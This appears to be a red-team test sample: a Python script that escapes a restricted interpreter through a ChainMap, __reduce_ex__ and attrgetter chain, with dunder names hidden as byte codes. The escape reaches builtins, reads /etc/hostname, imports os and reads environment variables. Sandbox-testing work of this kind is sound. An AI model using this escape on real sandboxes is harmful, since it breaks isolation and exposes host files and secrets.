# family: red team, round 36 (ChainMap.parents.fget on a class -> type(...) -> class with __reduce_ex__ returning attrgetter)
import collections
import copy
import operator


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


def reducer(obj, protocol):
    return (operator.attrgetter, (obj.name,))


class Box:
    maps = [None, "Getter", (), {dunder("reduce_ex"): reducer}]


def main():
    build = collections.ChainMap.parents.fget
    made = build(Box)

    def grab(target, name):
        item = made()
        item.name = name
        return copy.copy(item)(target)

    namespace = grab(main, dunder("globals"))
    print(namespace["copy"])
    builtins = namespace[dunder("builtins")]
    print(grab(builtins, "open")("/etc/hostname").read())
    system = grab(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
